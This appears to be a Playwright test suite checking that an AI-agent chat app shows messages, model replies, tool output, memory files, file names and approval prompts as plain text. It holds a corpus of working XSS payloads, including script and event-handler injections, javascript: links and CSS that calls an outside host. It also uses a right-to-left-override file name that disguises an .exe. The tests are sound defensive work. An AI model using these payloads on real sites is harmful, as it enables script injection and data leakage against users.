// Whatever others write is text: an XSS corpus through messages, replies, tool output, titles, memory and file names.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { Page } from 'playwright-core'
import { follow, hearing, useSite } from './browser.ts'
import { say } from './chat-page.ts'
import { noBrowser } from './launch.ts'

const skip = noBrowser()

const corpus = [
  '<script>window.owned=1</script>',
  '<img src=x onerror="window.owned=1">',
  '<svg onload="window.owned=1"><animate onbegin="window.owned=1" attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.owned=1</script>"></iframe>',
  '<a href="javascript:window.owned=1">click</a>',
  '[click](javascript:window.owned=1)',
  '[click](JaVaScRiPt:window.owned=1)',
  '[click](data:text/html,<script>window.owned=1</script>)',
  '![pic](javascript:window.owned=1)',
  '![a"onerror="window.owned=1](https://elsewhere.invalid/x.png?secret=1)',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.owned=1">',
  '<form><button formaction="javascript:window.owned=1">Allow once</button></form>',
  '<style>*{background:url(https://elsewhere.invalid/leak)}</style>',
  '<link rel=stylesheet href="https://elsewhere.invalid/x.css"><base href="https://elsewhere.invalid/">',
  '<details open ontoggle="window.owned=1"><summary>x</summary></details>',
  '```html"onmouseover="window.owned=1\n<script>window.owned=1</script>\n```',
  '$\\href{javascript:window.owned=1}{x}$ $\\includegraphics{https://elsewhere.invalid/m.png}$ $\\htmlStyle{background:url(https://elsewhere.invalid/s)}{y}$',
  '| <img src=x onerror=window.owned=1> |\n|---|\n| <script>window.owned=1</script> |',
  '"><script>window.owned=1</script>',
  "'-alert(1)-'",
  '<x contenteditable onblur=window.owned=1 tabindex=1 autofocus>x</x>',
  '&lt;img src=x onerror=window.owned=1&gt;',
  '<https://elsewhere.invalid/auto"onclick="window.owned=1>',
].join('\n\n')

/** Looks like `aexe.txt` where it is drawn as it is. */
const tricky = 'a\u202etxt.exe'
const shownTricky = 'a\\u{202e}txt.exe'

const site = useSite({
  script: {
    replies: [
      { when: 'tool output', calls: [{ name: 'memory_read', args: { path: 'bad.md' } }] },
      { afterTool: 'memory_read', text: 'Read.' },
      {
        when: 'ask',
        calls: [{ name: 'workspace_write', args: { path: '<img src=x onerror=window.owned=1>.md', content: corpus } }],
      },
      { when: 'trick', calls: [{ name: 'workspace_write', args: { path: tricky, content: `echo ${tricky}` } }] },
      { afterTool: 'workspace_write', calls: [{ name: 'workspace_read', args: { path: tricky } }] },
      { afterTool: 'workspace_read', text: 'Written and read.' },
      { text: corpus },
    ],
    loop: true,
  },
})

/** Every host that the page asked, and whether a script of others ran. */
async function watch(page: Page): Promise<() => Promise<void>> {
  const asked = new Set<string>()
  page.on('request', (request) => {
    const { protocol, host } = new URL(request.url())
    if (protocol !== 'data:' && protocol !== 'blob:') asked.add(host)
  })
  return async () => {
    assert.equal(await page.evaluate('window.owned'), undefined, 'a script of others ran')
    assert.deepEqual([...asked], [new URL(site.url).host], 'another host was asked')
    const links = await page
      .locator('.markdown a')
      .evaluateAll((all) => all.map((each) => (each as { href?: string }).href ?? ''))
    for (const href of links) assert.match(href, /^(https?:|mailto:|$)/)
    assert.equal(
      await page
        .locator('.markdown :is(script, iframe, img, svg:not(.katex *, .icon), form, style, link, base)')
        .count(),
      0,
    )
    const attributes = await page.evaluate<string[]>(
      '[...document.querySelectorAll("*")].flatMap((each) => each.getAttributeNames()).filter((name) => name.startsWith("on"))',
    )
    assert.deepEqual(attributes, [])
  }
}

test('messages and replies run nothing, load nothing and lead nowhere but to the web', { skip }, async (t) => {
  const page = await site.visit(t, '/waiting')
  const check = await watch(page)
  await page.getByRole('link', { name: 'New thread' }).click()
  await say(page, corpus)
  await page.getByRole('button', { name: /^Receipt/ }).waitFor()
  await check()
  await page.getByRole('link', { name: 'a"onerror="window.owned=1' }).waitFor()
  await page.reload()
  await page.getByRole('button', { name: /^Receipt/ }).waitFor()
  await check()
})

test('titles, tool output, memory and file names are text', { skip }, async (t) => {
  await site.call('PUT', '/api/memory/documents/bad.md', { content: corpus })
  const name = '<img src=x onerror=window.owned=1>.txt'
  const page = await site.visit(t, '/waiting')
  const check = await watch(page)
  await page.getByRole('link', { name: 'New thread' }).click()
  await page.locator('input[type=file]').setInputFiles([{ name, mimeType: 'text/plain', buffer: Buffer.from(corpus) }])
  await page.getByText(name).waitFor()
  await say(page, '<img src=x onerror=window.owned=1> tool output')
  await page.getByRole('button', { name: /^memory_read/ }).click()
  await page.getByText('Result, ').waitFor()
  await page.getByRole('heading', { name: '<img src=x onerror=window.owned=1> tool output' }).waitFor()
  await check()
})

test('an approval shows what others wrote as text', { skip }, async (t) => {
  const page = await site.visit(t, '/waiting')
  const check = await watch(page)
  await page.getByRole('link', { name: 'New thread' }).click()
  await say(page, 'ask')
  await page.getByRole('group', { name: /Create <img src=x onerror=window\.owned=1>\.md\?/ }).waitFor()
  await check()
  await page.getByRole('link', { name: /Waiting for you/ }).click()
  await page.getByRole('button', { name: 'Deny…' }).waitFor()
  await check()
})

test('a name that turns its direction shows how, in approvals, calls, results and grants', { skip }, async (t) => {
  const page = await site.visit(t, '/waiting')
  const checkText = async (): Promise<void> => {
    assert.doesNotMatch(await page.locator('#main').innerHTML(), /\u202e/)
  }
  await page.getByRole('link', { name: 'New thread' }).click()
  await say(page, 'trick')
  const card = page.getByRole('group', { name: `Create ${shownTricky}?` })
  await card.locator('.preview-what', { hasText: shownTricky }).waitFor()
  await card.locator('.diff-text', { hasText: `echo ${shownTricky}` }).waitFor()
  await page.locator('.call-brief', { hasText: shownTricky }).waitFor()
  await hearing(page)
  await card.getByRole('button', { name: 'Allow for…' }).click()
  await page.getByRole('radio', { name: shownTricky }).waitFor()
  await checkText()
  await page.getByRole('link', { name: /Waiting for you/ }).click()
  await page.locator('.queue-row').last().click()
  await page.locator('.preview-what', { hasText: shownTricky }).waitFor()
  await checkText()
  await hearing(page)
  await page.getByRole('button', { name: 'Allow for…' }).click()
  await page.getByRole('button', { name: 'Allow for 1 hour' }).click()
  await page.locator('.answered-what').first().click()
  await page.getByRole('button', { name: /^Receipt/ }).waitFor()
  await page.getByRole('button', { name: /^workspace_read/ }).click()
  await page.locator('.call-inside', { hasText: shownTricky }).waitFor()
  await checkText()
  await follow(page, '/settings/grants')
  await page.locator('.grant-where', { hasText: shownTricky }).waitFor()
  await checkText()
})
